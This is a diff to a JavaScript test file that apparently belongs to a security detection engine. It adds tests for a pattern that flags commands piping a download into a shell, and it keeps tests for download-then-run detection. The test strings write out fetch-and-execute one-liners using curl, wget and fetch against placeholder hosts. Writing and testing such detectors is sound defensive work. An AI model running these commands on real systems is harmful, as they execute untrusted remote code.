@@ -4,7 +4,7 @@
 import { test } from "tap";
 import { knownAutomation } from "../../shared/engine/baselines/index.js";
 import { buildGraph, SHARED_LINK_MAX_HOSTS } from "../../shared/engine/graph.js";
-import { downloadThenRun } from "../../shared/engine/detections/patterns.js";
+import { downloadThenRun, PIPE_TO_SHELL } from "../../shared/engine/detections/patterns.js";
 import { nopasswdAll } from "../../shared/engine/detections/sudoers-nopasswd.js";
 import { routeQuery, runInvestigation } from "../../shared/engine/index.js";
 import { coverage, host, proc } from "./helpers.js";
@@ -46,6 +46,17 @@ test("download then run: a simple command at a time", async (t) => {
   t.ok(downloadThenRun("cd /tmp; curl --output b http://x/b && ./b"));
   t.notOk(downloadThenRun("curl -o report.html http://intranet/report"), "a download alone");
   t.notOk(downloadThenRun("curl http://x/a && chmod +x a"), "no output option: nothing written to run");
+});
+
+test("pipe to shell: a simple command at a time", async (t) => {
+  t.notOk(PIPE_TO_SHELL.test("curl ".repeat(3276)), "16 KiB of curls and no pipe (330 ms as one pattern)");
+  t.notOk(PIPE_TO_SHELL.test(`curl ${"| tee x ".repeat(2000)}`), "pipes that lead nowhere");
+  t.ok(PIPE_TO_SHELL.test("curl -fsSL https://get.example.com/install.sh | sudo -E bash -"));
+  t.ok(PIPE_TO_SHELL.test("wget -qO- http://203.0.113.9/x|sh"));
+  t.ok(PIPE_TO_SHELL.test("cd /tmp; curl http://x/p.py | python3"));
+  t.ok(PIPE_TO_SHELL.test("fetch -o - http://x/s | /usr/local/bin/bash"));
+  t.notOk(PIPE_TO_SHELL.test("curl http://x/a | tee a | sh"), "the shell reads tee's output, as before");
+  t.notOk(PIPE_TO_SHELL.test("curl http://x/a || sh fallback.sh"), "|| is no pipe");
 });
 
 test("one value that breaks String() does not fail the investigation", async (t) => {
